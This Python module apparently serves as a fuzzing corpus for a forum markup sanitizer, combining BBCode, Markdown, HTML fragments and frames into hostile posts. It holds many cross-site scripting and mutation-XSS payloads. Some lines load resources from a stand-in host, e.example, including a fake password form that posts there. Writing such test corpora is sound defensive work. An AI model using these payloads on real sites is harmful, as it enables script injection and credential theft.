"""What hostile posts are made of: signs of each dialect, payloads, and places to put them."""

# ruff: noqa: E501 - a payload is one line

from __future__ import annotations

from rostra.content.markup.references import Known, LocalRef, MemberRef, PostRef

KNOWN = Known(
    members={"Ann Lee": MemberRef(7, 'A"<b onload=alert(1)>nn'), "zzz": MemberRef(1, "zzz")},
    posts={
        "34": PostRef(34, 7, "Ann", "text a"),
        "12:3": PostRef(99, 6, '"><script>alert(1)</script>', "x"),
    },
    local={
        "http://f.t/threads/12": LocalRef("thread", 12),
        "http://f.t/posts/34": LocalRef("post", 34),
    },
)

TEXT = (
    "text", " ", "  ", "\t", "\n", "\n\n", "a", "é", "שלום", "ا", "😀", "\u200d", "\ufeff", "\x85",
    "\u2028", "\u202e", "\u2066", "\u2069", "\u202c", "\x00", "\x0b", "\x0c", "\ud800", "\ufffe",
    "\xa0", "\xad", "&", "&amp;", "&lt;", "&#60;", "&#x3c;", "&quot;", "&#x0;", "&colon;",
    "&Tab;", "&NewLine;", "&notit;", '"', "'", "`", "\\", "<", ">", "</", "/>", "<!--", "-->",
    "--!>", "<![CDATA[", "]]>", "<?", "http://a.b/c", "www.a.b", "a@b.cd", "x at y dot org",
    "https://youtu.be/dQw4w9WgXcQ", "https://vimeo.com/76979871", "http://f.t/threads/12",
    "http://f.t/posts/34", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "@Ann Lee", '@"Ann Lee"#p12', "@zzz", ":)", ":cuckoo:", "8)", "ſcript", "ＳＣＲＩＰＴ", "İ", "ﬀ",
)  # fmt: skip

NATIVE = (
    "**", "*", "__", "_", "~~", "~", "`", "``", "\n```\n", "\n~~~x\n", "\n> ", "\n- ", "\n1. ",
    "\n99999999. ", "\n# ", "\n###### ", "\n    ", "\n\t", "|", "||", "\n|-|-|\n", "\na|b\n-|-\n",
    "[a](", "](http://b.c)", '](<http://b.c> "', "](javascript:alert(1))", "![", "![a](",
    "[^1]", "\n[^1]: ", "\n[a]: /b\n", '\n[a]: http://b.c "t"\n', "[a]", "[a][", "<http://a.b>",
    "<javascript:alert(1)>", "\n---\n", "\n===\n", "[x] ", "\n- [ ] ", "  \n", "\\\n", "\\[", "\\<",
)  # fmt: skip

_TAGS = """
    b i u s sub sup highlight kbd color size font bdo ispoiler glow abbr acronym bgcolor url
    email quote spoiler list table left center align indent h1 heading rtl * tr td th thead
    code php html icode noparse img media youtube vimeo video user hr ol li details pre tt
    mention iurl x
""".split()  # noqa: SIM905 - a list of words reads better as words
_ARGUMENTS = (
    "", "", "", "=red", "=x", '="', "='", "=[b]", "=http://a.b", "=javascript:alert(1)",
    '="http://a.b" onclick="alert(1)"', '=a@b" onmouseover=alert(1)', "=1;position:fixed",
    "=red;background:url(//e.example/)", '="Ann, post: 34"', "=Ann;34", '="x, post:3, topic:12"',
    " author=Ann link=msg=34", "='\"><script>alert(1)</script>", "=youtube", "=vimeo;1", "=rtl",
    '="a]b"', "=<a data-thread=12></a>", "=&quot;x&quot;", "=\u202e", ":3a4f", "=1", "=A",
)  # fmt: skip
BBCODE = tuple(
    f"[{tag}{argument}]" for tag in _TAGS for argument in (_ARGUMENTS if tag != "x" else ("",))
)
CLOSING = (*(f"[/{tag}]" for tag in _TAGS), "[/b:3a4f]", "[/quote ]", "[/", "[/]", "[")

ELEMENTS = """
    a abbr address applet area article aside audio b base bdi bdo big blockquote body br
    button canvas caption center cite code col colgroup command datalist dd del details
    dialog dir div dl dt em embed fieldset figcaption figure font footer form frame frameset
    h1 h6 head hr html i iframe image img input ins isindex kbd keygen label li link listing
    map marquee math menu meta mglyph mi mn mo ms mtext annotation-xml semantics nobr
    noembed noframes noscript object ol optgroup option output p param picture plaintext pre
    q rb rp rt ruby s samp script search section select slot small source span strike strong
    style sub summary sup svg g path use animate set desc foreignObject title image table
    tbody td template textarea tfoot th thead time tr track tt u ul var video wbr xmp x-y
    rostra-embed rostra-time a:b
""".split()  # noqa: SIM905 - a list of words reads better as words
ATTRIBUTES = (
    'onload="alert(1)"', "onerror=alert(1)", "onclick='alert(1)'", "OnMouseOver=alert(1)",
    "onfocus=alert(1) autofocus", "ontoggle=alert(1) open", "onanimationstart=alert(1)",
    'href="javascript:alert(1)"', "href=' jav&#9;ascript:alert(1)'", 'href="//e.example/"',
    'href="http://a.b/"', 'href="/threads/12"', "href=data:text/html,x", "href=#x",
    'src="http://e.example/x"', "src=x", 'srcdoc="<script>alert(1)</script>"', "srcset='//e.example/ 2x'",
    'style="background:url(//e.example/x)"', "style=position:fixed;top:0", "style='color:red'",
    "id=attributes", "id=body", "name=getElementById", "name=cookie", "action=//e.example/",
    "formaction=javascript:alert(1)", "xlink:href=javascript:alert(1)", "xmlns=http://www.w3.org/2000/svg",
    'title="</style><img src=x onerror=alert(1)>"', 'alt="--><img src=x onerror=alert(1)>"',
    'data-x="</noscript><script>alert(1)</script>"', 'class="quote"', "class='mention smilie'",
    'class="bbCodeBlock bbCodeBlock--quote"', 'data-source="post: 34" data-quote="Ann"',
    'data-post="3" data-topic="12" data-username="Ann"', 'data-thread="12"', 'data-word="done"',
    'data-provider="youtube" data-video="dQw4w9WgXcQ"', "dir=rtl", "colspan=99", "rowspan=1000",
    "start=99999999999", "type=password", "is=x-y", "slot=x", "part=x", "contenteditable", "/",
    '"', "'", "=", "`", "\x00", 'encoding="text/html"', "definitionurl=x", "face=x color=red size=7",
)  # fmt: skip

# What stands in one another where it is meant.
NESTING = (
    "dl dd", "dl dt dd", "ul li", "ol li ul", "table tr td", "table caption", "blockquote cite",
    "details summary", "figure figcaption", "ruby rt", "a b", "svg foreignObject", "math mtext",
    "p blockquote", "div span", "select option", "h1 div", "aside blockquote", "b i", "ul ul",
)  # fmt: skip

# Markup that a parser changes each time it is read and written; and its relatives.
MUTATING = (
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style></svg>',
    '<svg><title><style><img src="</style><img src=x onerror=alert(1)>"></title></svg>',
    "<math><annotation-xml encoding=text/html><style><img src=</style><img src=x onerror=alert(1)>",
    "<table><td><svg><desc><td><style></desc><img src=x onerror=alert(1)>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img onerror=alert(1) src>\">",
    "<svg><a><foreignobject><p><style></p><img src=x onerror=alert(1)></style>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<noembed><img alt=\"</noembed><img src=x onerror=alert(1)>\">",
    "<iframe><!--</iframe><img src=x onerror=alert(1)>-->",
    "<textarea><img alt=\"</textarea><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)>--!>",
    "<a href=\"x\"><table><a href=\"y\">z</a></table></a>", "<a><p><a>x</a></p></a>",
    "<b><p>x</b>y</p>", "<p><table><p>x", "<table><b><tr><td>x</b></table>",
    "<table><caption><b></table>x</b>", "<ul><li><p><ul><li></p>x", "<dl><dt><p><dd>x</p></dl>",
    "<pre>\n\n x</pre>", "<listing>\n\nx</listing>", "<textarea>\n\nx</textarea>",
    "<h1><h2>x</h1>y</h2>", "<nobr>a<nobr>b", "<button><p><button>x", "<p></p x=y><br/ ></br>",
    "<table>x<tr>y<td>z</table>", "<tr><td>x</td></tr>", "</p></div></section></li>",
    "</body></html><p>x", "<frameset><frame src=javascript:alert(1)>", "<plaintext><b>x",
    "<isindex action=//e.example/ prompt=x>", "<image src=x onerror=alert(1)>",
    "<svg><p>x</svg>y", "<math><b>x</math>y", "<svg><svg><b><noscript>&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(1)'/></svg>#x\"/>",
    "<template shadowrootmode=open><style>*{background:url(//e.example)}</style><slot></slot></template>",
    "<div id=1><template><div id=2></template></div><ruby>a<rt>b<rb>c<rtc>d",
    "<a href='http://a.b/&quot;onclick=alert(1)'>x</a>", "<a href=\"http://a.b/\x00javascript:\">x</a>",
    "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img/src/onerror=alert(1)>", "<svg/onload=alert(1)//", "<script>alert(1)</script", "<sCrIpT/x>alert(1)</ScRiPt\t\n x>",
    "<meta http-equiv=refresh content='0;url=//e.example/'>", "<base href=//e.example/><a href=/x>y</a>",
    "<link rel=stylesheet href=//e.example/x.css>", "<form id=x action=//e.example/><input name=attributes><button>Log in",
    "<input type=password name=password form=x>", "<style>@import '//e.example/x';</style>",
    "<object data=//e.example/x><embed src=//e.example/y></object>", "<video poster=//e.example/x src=//e.example/y autoplay>",
)  # fmt: skip

MAIL = (
    "\n> ", "\n>> ", "\n> > ", "\n| ", "\n: ", "\nSB> ", "\n[SB] ", "\n>> <-> |> ", "\n-- \n",
    "\nAnn Lee <ann@x.example> wrote:\n", "\nIn article <1@x.example>, ann@x.example (Ann) writes:\n",
    "\nOn Tue, May 5, 2009 at 9:01 AM, <script>alert(1)</script> wrote:\n",
    '\n"><img src=x onerror=alert(1)> wrote:\n', "\nAm 3. Mai schrieb <b>:\n", "\nbegin 644 x\nM", "\nend\n",
    "\n-----BEGIN PGP SIGNATURE-----\n", "\n-----END PGP SIGNATURE-----\n", "\n" + "QUJD" * 16,
    "\n____________________\nmailing list", "\n  a   b   c\n  d   e   f", "\n+----+\n|    |\n+----+",
    "\n=====\n", "\x1b[31m", "_\x08a", "a@b.example", "a (at) b (dot) org", " at ", "%40", "=3D",
    "<URL:http://a.b/>", "news:1@x.example", "\r\n", "\r", "\x0c",
)  # fmt: skip

# Places for a payload; other posts are put into them as well.
FRAMES = (
    "{}", "[url={}]x[/url]", "[url]{}[/url]", "[img]{}[/img]", '[quote="{}, post: 1"]x[/quote]',
    "[color={}]x[/color]", "[media=youtube]{}[/media]", "[code={}]x[/code]", "[x]({})",
    '[x](http://a.b "{}")', "<{}>", "```{}\nx\n```", "[quote={}]q[/quote]", "[spoiler={}]s[/spoiler]",
    "[email={}]x[/email]", "[user=1]{}[/user]", "[list={}][*]x[/list]", "[size={}]x[/size]",
    "![{}](http://a.b/c)", "[{}](http://a.b/c)", "http://a.b/{}", "`{}`", "[noparse]{}[/noparse]",
    "@{}", "> {}", "\n{} wrote:\n> x\n", "-- \n{}", "[^1] x\n\n[^1]: {}", "a|b\n-|-\n{}|c\n",
    '<a href="{}">x</a>', "<a href='{}'>x</a>", "<img src={}>", '<img alt="{}" src=x>', "<p {}>x</p>",
    "<blockquote><cite>{}</cite>x</blockquote>", '<aside class=quote data-username="{}">x</aside>',
    "<details><summary>{}</summary>x</details>", "<svg>{}</svg>", "<math>{}</math>", "<style>{}</style>",
    "<textarea>{}</textarea>", "<title>{}</title>", "<noscript>{}</noscript>", "<!--{}-->",
    "<table>{}</table>", "<select>{}</select>", "<template>{}</template>", "<pre>{}</pre>",
    '<iframe srcdoc="{}"></iframe>', '<span style="{}">x</span>', "<![CDATA[{}]]>",
)  # fmt: skip
